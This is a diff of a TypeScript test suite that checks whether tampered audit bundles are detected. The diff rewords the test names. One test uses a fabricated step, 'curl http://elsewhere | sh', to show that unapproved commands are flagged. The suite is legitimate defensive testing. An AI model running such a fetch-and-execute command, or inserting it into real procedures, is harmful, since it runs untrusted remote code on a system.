@@ -59,16 +59,16 @@ describe("a real bundle", () => {
 /** One of each way in which a bundle can be filled. */
 const VARIED = ["passed", "approved", "retried", "resolved-failed", "cancelled", "replaced", "waits-for-approval"];
 
-describe("of a bundle that was tampered with", () => {
-  test("every field that was changed, left out or added is found", () => {
+describe("the verification of a bundle that was tampered with", () => {
+  test("finds every field that was changed, left out or added", () => {
     for (const name of VARIED) expect(missed(mutants(bundleOf(name))), name).toEqual([]);
   });
 
-  test("an entry that was changed and hashed anew is found, but for the time of the very last", () => {
+  test("finds an entry that was changed and hashed anew, except for the time of the very last", () => {
     for (const name of VARIED) expect(missed(mutatedEntries(bundleOf(name))), name).toEqual([]);
   });
 
-  test("an entry that was removed, moved or put in is found, numbered and hashed anew or not", () => {
+  test("finds an entry that was removed, moved or put in, numbered and hashed anew or not", () => {
     const added: Loose[] = [
       { kind: "taken_up", body: { owner: "x", recovery: true } },
       { kind: "retry_granted", body: { index: 0 } },
@@ -107,7 +107,7 @@ describe("of a bundle that was tampered with", () => {
 });
 
 describe("a fault", () => {
-  test("hashed anew from end to end, it is found where other steps ran than were approved, or none were", () => {
+  test("is found after a bundle was hashed anew from end to end, where other steps ran than were approved, or none were", () => {
     const bundle = bundleOf("approved");
     const anew = (events: Loose[]) => chain("approved", null, events, bundle.journal[0].at);
     const steps = [{ kind: "cmd", value: "curl http://elsewhere | sh" }, ...bundle.procedure.steps.slice(1)];
@@ -179,7 +179,7 @@ describe("a fault", () => {
     `);
   });
 
-  test("is told of whatever is no bundle, and nothing throws", () => {
+  test("is reported for anything that is no bundle, and nothing throws", () => {
     expect(faultsOf(null)).toEqual(["The bundle must be an object."]);
     expect(faultsOf([])).toEqual(["The bundle must be an object."]);
     expect(verifyBundle({ journal: [1, 2] }).events).toBe(2);
